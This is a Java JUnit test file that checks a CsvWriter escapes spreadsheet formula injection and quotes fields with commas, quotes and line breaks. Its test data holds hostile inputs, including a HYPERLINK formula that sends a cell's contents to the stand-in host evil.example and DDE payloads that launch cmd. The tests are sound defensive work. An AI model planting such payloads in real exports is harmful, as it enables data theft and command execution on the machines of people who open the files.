package io.bucketdigest.core.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvWriterTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '~', quoteCharacter = '`', textBlock = """
            =HYPERLINK("http://evil.example/?x="&A1;"click")  ~ `"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`
            =HYPERLINK("x")                                  ~ `"'=HYPERLINK(""x"")"`
            =1+2                                             ~ '=1+2
            +cmd|' /C calc'!A0                               ~ `'+cmd|' /C calc'!A0`
            +cmd                                             ~ '+cmd
            -1+1                                             ~ '-1+1
            -2+3+cmd|' /C calc'!A0                           ~ `'-2+3+cmd|' /C calc'!A0`
            -5.txt                                           ~ '-5.txt
            -21                                              ~ '-21
            @SUM(A1)                                         ~ '@SUM(A1)
            @SUM(1+1)*cmd|' /C calc'!A0                      ~ `'@SUM(1+1)*cmd|' /C calc'!A0`
            -                                                ~ -
            a=b                                              ~ a=b
            1.5                                              ~ 1.5
            photos/cat.jpg                                   ~ photos/cat.jpg
            café ☃.txt                                       ~ café ☃.txt
            a,b.txt                                          ~ `"a,b.txt"`
            say "hi".txt                                     ~ `"say ""hi"".txt"`
            `line\\nbreak`                                   ~ `"line\\nbreak"`
            `cr\\rinside`                                    ~ `"cr\\rinside"`
            ` padded`                                        ~ `" padded"`
            `padded `                                        ~ `"padded "`
            """)
    void field_hostileAndOrdinaryValues_areNeutralisedQuotedOrLeftAlone(String value, String expected) {
        assertThat(CsvWriter.field(unescape(value))).isEqualTo(unescape(expected));
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"\t=1+1", "\u0000=1+1", "\r=1+1", "=1+1\u202E\u0007", "-\u001b[31m"})
    void field_controlCharacterOrFormulaFirst_getsALeadingQuoteAndKeepsEveryCharacter(String value) {
        String field = CsvWriter.field(value);

        String unquoted = field.startsWith("\"") ? field.substring(1, field.length() - 1).replace("\"\"", "\"") : field;
        assertThat(unquoted).isEqualTo("'" + value);
    }

    @Test
    void row_hostileKeyAmongOrdinaryFields_readsBackAsOneRowWithTheGuardedKey() {
        StringBuilder out = new StringBuilder();
        CsvWriter csv = new CsvWriter(out, "\r\n");

        csv.row(List.of("bucket", "key", "size"));
        csv.row(Arrays.asList("photos", "=HYPERLINK(\"http://x\",\"a,b\")\r\nevil", null));

        assertThat(out.toString()).isEqualTo("bucket,key,size\r\n"
                + "photos,\"'=HYPERLINK(\"\"http://x\"\",\"\"a,b\"\")\r\nevil\",\r\n");
    }

    @Test
    void row_lineEndForATerminal_isLf() {
        StringBuilder out = new StringBuilder();

        new CsvWriter(out, "\n").row(List.of("a", "@b"));

        assertThat(out.toString()).isEqualTo("a,'@b\n");
    }

    private static String unescape(String text) {
        return text.replace("\\n", "\n").replace("\\r", "\r");
    }
}
